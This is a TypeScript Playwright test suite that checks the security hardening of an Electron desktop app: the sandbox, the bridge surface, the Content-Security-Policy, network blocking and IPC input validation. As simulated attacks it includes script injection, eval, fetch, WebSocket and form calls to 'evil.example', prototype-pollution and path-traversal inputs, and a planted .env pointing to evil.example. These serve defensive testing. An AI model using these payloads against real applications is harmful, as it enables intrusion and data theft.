import { createServer } from 'node:http';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { expect } from 'playwright/test';
import { ask, askAnything } from '../desktop/fixture.ts';
import { test } from '../harness/fixtures.ts';
import { testFolder } from '../harness/testFolder.ts';

test('the window is sandboxed, isolated, and without Node', async ({ launch }) => {
  const { webPreferences } = await launch();
  expect(await webPreferences()).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInWorker: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    webviewTag: false,
    navigateOnDragDrop: false,
  });
});

test('the page has one narrow bridge, and nothing of Node or Electron', async ({ launch }) => {
  const { page } = await launch();
  const found = await page.evaluate(() => ({
    bridge: Object.keys(Reflect.get(globalThis, 'otpDock') as object).toSorted(),
    frozen: Reflect.set(Reflect.get(globalThis, 'otpDock') as object, 'request', () => 'stolen'),
    node: ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter(
      (name) => name in globalThis,
    ),
  }));
  expect(found).toEqual({ bridge: ['request', 'subscribe'], frozen: false, node: [] });
});

/** Tries what a script that got into the page would; answers what the Content-Security-Policy stopped, `count` things. */
function stoppedTries(page: Page, count: number): Promise<string[]> {
  return page.evaluate(
    (most) =>
      new Promise<string[]>((done) => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (seen.push(effectiveDirective) === most) done(seen.toSorted());
        });
        const add = <E extends HTMLElement>(tag: string, attributes: object): E => {
          const element = Object.assign(document.createElement(tag), attributes) as E;
          document.body.append(element);
          return element;
        };
        const tries = [
          () => add('script', { textContent: 'globalThis.pwned = true' }),
          () => add('script', { src: 'https://evil.example/x.js' }),
          () => add('img', { src: 'https://evil.example/x.png' }),
          () => add('iframe', { src: 'https://evil.example/' }),
          () => add('object', { data: 'https://evil.example/x.swf' }),
          () => add('base', { href: 'https://evil.example/' }),
          () => add<HTMLFormElement>('form', { action: 'https://evil.example/' }).submit(),
          () => void fetch('https://evil.example/').catch(() => undefined),
          () => new WebSocket('wss://evil.example/'),
          () => new Worker('data:text/javascript,0'),
          // oxlint-disable-next-line no-eval -- that it is stopped is what is tested
          () => void (0, eval)('globalThis.pwned = true'),
        ];
        // One by one, out of the debugger's call, which is not under the policy.
        for (const attempt of tries) setTimeout(attempt);
      }),
    count,
  );
}

test('the page runs its own scripts and talks to its own host, and to nothing else', async ({ launch }) => {
  const { page } = await launch();
  expect(await stoppedTries(page, 11)).toEqual([
    'base-uri',
    'connect-src',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src',
    'script-src-elem',
    'script-src-elem',
    'worker-src',
  ]);
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
});

test('what the page asks of other hosts does not leave the app, even without its policy', async ({ launch }) => {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('ok');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const { page } = await launch();
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Page.setBypassCSP', { enabled: true });
  await page.reload();
  const reasons: (string | undefined)[] = [];
  page.on('requestfailed', (request) => reasons.push(request.failure()?.errorText));
  const answers = await page.evaluate(async (to) => {
    const image = new Promise<string>((done) => {
      const element = new Image();
      element.addEventListener('load', () => done('loaded'));
      element.addEventListener('error', () => done('refused'));
      element.src = `${to}/image`;
    });
    const fetched = fetch(`${to}/fetch?secret`).then(
      () => 'loaded',
      () => 'refused',
    );
    return Promise.all([image, fetched]);
  }, url);
  expect([answers, heard]).toEqual([['refused', 'refused'], []]);
  // By the app, not by the policy or by what the browser makes of local addresses.
  const blocked = expect.stringMatching(/^net::ERR_BLOCKED_BY_CLIENT/);
  expect(reasons).toEqual([blocked, blocked]);
  expect(await ask(page, 'state.get')).toMatchObject({ ok: true });
  server.close();
});

test('a page that was taken over can ask for nothing that the contract does not have', async ({ launch }) => {
  const { page } = await launch();
  const names = [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'state.get\0',
    'STATE.GET',
    '',
    '../state.get',
  ];
  for (const name of names)
    expect(await askAnything(page, name), name).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  for (const name of [null, 1, ['state.get'], { toString: 'state.get' }])
    expect(await askAnything(page, name as unknown as string)).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT' },
    });
  const inputs: [string, unknown][] = [
    ['settings.update', JSON.parse('{"__proto__": {"policy": "keep"}, "constructor": 1}')],
    ['settings.update', { dataDir: '/' }],
    ['texts.try', { text: 'x'.repeat(5_000_000) }],
    ['clipboard.copy', { text: 'x'.repeat(5_000_000) }],
    ['messages.delete', { sids: Array.from({ length: 100_000 }, () => 'SM1') }],
    ['leases.start', { requestId: 'r', country: 'US', ttlSeconds: Number.MAX_SAFE_INTEGER }],
  ];
  for (const [name, input] of inputs)
    expect(await askAnything(page, name, input), name).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  expect(await ask(page, 'state.get')).toMatchObject({ ok: true, value: { settings: { policy: 'release' } } });
});

test.describe('an installed app', () => {
  const installed = { ELECTRON_DOUBLE_PACKAGED: '1' };

  test('has no developer tools, and ignores a server for developers and an .env where it happens to be started', async ({
    launch,
  }) => {
    const dataDir = testFolder('data-');
    writeFileSync(
      join(dataDir, '.env'),
      `TWILIO_ACCOUNT_SID=AC${'e'.repeat(32)}\nTWILIO_AUTH_TOKEN=${'e'.repeat(32)}\nWEBHOOK_BASE_URL=https://evil.example\n`,
    );
    const env = { ...installed, VITE_DEV_SERVER_URL: 'http://localhost:1/' };
    const desktop = await launch({ env, dataDir });
    test.skip(desktop.kind === 'electron', 'real Electron is installed only when it is packaged');
    expect(await desktop.webPreferences()).toMatchObject({ devTools: false });
    expect(await ask(desktop.page, 'state.get')).toMatchObject({
      ok: true,
      value: { account: { kind: 'none' }, credentials: { source: 'none' }, tunnel: { url: null } },
    });
  });

  test('does not start with Chromium’s debugger open', async ({ launch }) => {
    const first = await launch();
    test.skip(first.kind === 'electron', 'real Electron is installed only when it is packaged');
    await expect(launch({ env: installed, args: ['--remote-debugging-port=9222'] })).rejects.toThrow('ended with 1');
  });
});
